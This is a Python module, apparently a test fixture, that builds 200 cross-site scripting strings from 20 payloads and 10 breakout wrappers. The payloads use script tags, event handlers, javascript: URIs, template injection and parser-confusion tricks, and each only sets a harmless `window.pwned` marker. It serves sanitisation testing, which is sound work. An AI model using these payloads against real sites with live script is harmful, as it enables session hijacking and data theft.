"""Two hundred strings that run a script where a page takes text for markup: names, descriptions, error texts.

Each sets ``window.pwned`` in a page that falls for it.
"""

RUN = "window.pwned=1"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<math><mtext></style><img src=x onerror={RUN}></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<x contenteditable onblur={RUN}>",
    f"<object data='javascript:{RUN}'></object>",
)

WRAPPERS = ("{}", '"{}', "'{}", '">{}', "'>{}", "</p>{}", "-->{}", "]]>{}", "\\x3c{}", "</textarea></title>{}")
"""What ends an attribute, a comment, an element or a script's string before the payload begins."""

HOSTILE = tuple(wrapper.replace("{}", payload) for wrapper in WRAPPERS for payload in PAYLOADS)

EACH_ONCE = tuple(WRAPPERS[place % len(WRAPPERS)].replace("{}", payload) for place, payload in enumerate(PAYLOADS))
"""Each payload and each wrapper at least once, for a place where only one string is seen at a time."""
